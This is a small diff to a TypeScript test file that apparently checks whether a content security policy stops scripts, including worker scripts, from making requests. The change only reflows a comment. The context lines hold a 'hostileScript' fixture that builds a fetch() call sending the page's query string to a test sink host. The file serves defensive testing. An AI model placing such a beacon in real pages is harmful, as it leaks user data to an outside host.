@@ -13,7 +13,10 @@ const dist = fileURLToPath(new URL('../dist', import.meta.url));
 /** How long a request that was not refused may take to be seen. */
 const grace = 2_000;
 
-/** Served beside the page: even a script of its own host must not start as a worker, where no policy would hold. */
+/**
+ * Served beside the page: even a script of its own host must not start as a worker, where no policy
+ * would hold.
+ */
 const hostileScript = (sink: Sink): string => `fetch('http://${sink.host}/hit/' + location.search.slice(1));`;
 
 type Site = { readonly url: string; readonly sink: Sink; close(): Promise<void> };
